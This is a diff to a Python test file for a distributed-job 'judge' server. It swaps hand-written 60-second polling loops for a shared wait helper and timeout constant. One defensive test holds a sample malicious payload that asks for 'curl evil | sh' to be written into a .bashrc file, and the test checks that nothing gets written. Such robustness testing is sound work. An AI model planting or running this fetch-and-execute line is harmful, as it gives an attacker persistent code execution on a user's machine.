@@ -6,13 +6,12 @@ import contextlib
 import json
 import os
 import resource
-import select
 import socket
 import subprocess
 import sys
 import threading
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
@@ -27,6 +26,7 @@ from kempner.jobs.preflight import channel, task
 from kempner.jobs.ranks import peers
 from kempner.jobs.ranks.peers import Entrance, new_key
 from kempner.jobs.ranks.port_range import listen_in_range
+from tests.waiting import LIMIT_S, until
 
 KEY = new_key()
 NONSENSE = (
@@ -58,10 +58,12 @@ def stranger(port: int, says: bytes) -> bytes:
 
 def taken(entrance: Entrance, count: int = 1) -> list[socket.socket]:
     found: list[socket.socket] = []
-    end = time.monotonic() + 60
-    while len(found) < count and time.monotonic() < end:
-        select.select([entrance], [], [], 0.2)
-        found += entrance.take()
+
+    def come() -> bool:
+        found.extend(entrance.take())
+        return len(found) >= count
+
+    until(come)
     return found
 
 
@@ -183,13 +185,6 @@ def judge(tmp_path: Path) -> Iterator[tuple[JudgeServer, int, list[str]]]:
     assert alive, "the judge has died"
 
 
-def until(true: Callable[[], object]) -> None:
-    end = time.monotonic() + 60
-    while not true():
-        assert time.monotonic() < end
-        time.sleep(0.01)
-
-
 def test_a_port_scan_does_not_end_the_judge(judge: tuple[JudgeServer, int, list[str]]) -> None:
     """`GET / HTTP/1.0` did, and "0.99" had replica 0 declared gone: all replicas left."""
     one, port, told = judge
@@ -267,7 +262,7 @@ def test_nothing_but_the_end_of_its_parent_ends_the_judge(tmp_path: Path) -> Non
         assert judge.poll() is None
     finally:
         judge.kill()
-        judge.wait(60)
+        judge.wait(LIMIT_S)
 
 
 def test_the_note_of_the_judge_is_for_nobody_else(
@@ -299,7 +294,7 @@ def test_preflight_writes_nothing_that_the_network_says(
         stranger(driver.port, says)
     evil = {"path": str(tmp_path / ".bashrc"), "text": "curl evil | sh"}
     keys = driver.ask([0], {"what": "write", **evil})
-    assert driver.answers(keys, time.monotonic() + 60) == {0: {}}
+    assert driver.answers(keys, time.monotonic() + LIMIT_S) == {0: {}}
     driver.end([0])
     thread.join(60)
     assert [path.name for path in tmp_path.iterdir()] == ["runs"]
